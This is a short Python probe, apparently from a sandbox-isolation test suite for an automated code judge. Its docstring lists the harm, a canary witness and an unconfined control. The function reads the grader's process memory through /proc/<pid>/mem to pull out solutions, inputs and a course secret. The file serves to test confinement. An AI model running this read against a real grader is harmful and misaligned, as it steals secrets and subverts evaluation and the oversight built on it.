"""Reads the judge's memory through /proc/<pid>/mem.

item: C /proc/<pid> of the grader
harm: solutions, inputs and the course secret are read
deserves: everything
witness: canary
control: unconfined
"""


def attempt():
    with open(f"/proc/{TARGETS['judge']}/mem", "rb", buffering=0) as memory:
        memory.seek(TARGETS["address"])
        return memory.read(TARGETS["length"]).decode()
